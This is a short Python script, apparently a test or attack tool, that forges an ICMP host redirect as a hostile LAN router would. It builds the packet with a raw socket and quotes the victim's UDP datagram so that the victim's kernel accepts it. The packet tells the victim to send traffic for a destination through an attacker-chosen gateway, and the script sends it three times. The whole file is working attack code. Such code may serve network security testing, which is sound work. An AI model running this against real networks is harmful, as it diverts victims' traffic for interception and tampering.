#!/usr/bin/python3
"""An ICMP host redirect, as a hostile LAN router sends it: "for DST, use
NEWGW". Sent from the current gateway (its source address is the router's)
to VICTIM, quoting the victim's own UDP datagram (SRC:SPORT -> DST:DPORT),
which is what the kernel matches against the victim's socket.

argv[1]: JSON {"victim", "src", "sport", "dst", "dport", "gateway"}
"""
import json, socket, struct, sys

p = json.loads(sys.argv[1])


def csum(b):
    if len(b) % 2:
        b += b"\0"
    s = sum(struct.unpack(f"!{len(b) // 2}H", b))
    s = (s >> 16) + (s & 0xFFFF)
    s += s >> 16
    return ~s & 0xFFFF


udp = struct.pack("!HHHH", p["sport"], p["dport"], 8 + 4, 0)
inner = struct.pack("!BBHHHBBH4s4s", 0x45, 0, 20 + len(udp) + 4, 0, 0x4000, 64, socket.IPPROTO_UDP, 0, socket.inet_aton(p["src"]), socket.inet_aton(p["dst"]))
inner = inner[:10] + struct.pack("!H", csum(inner)) + inner[12:]
body = struct.pack("!4s", socket.inet_aton(p["gateway"])) + inner + udp
icmp = struct.pack("!BBH", 5, 1, 0) + body
icmp = icmp[:2] + struct.pack("!H", csum(icmp)) + icmp[4:]
s = socket.socket(socket.AF_INET, socket.SOCK_RAW, socket.IPPROTO_ICMP)
for _ in range(3):
    s.sendto(icmp, (p["victim"], 0))
print("sent")
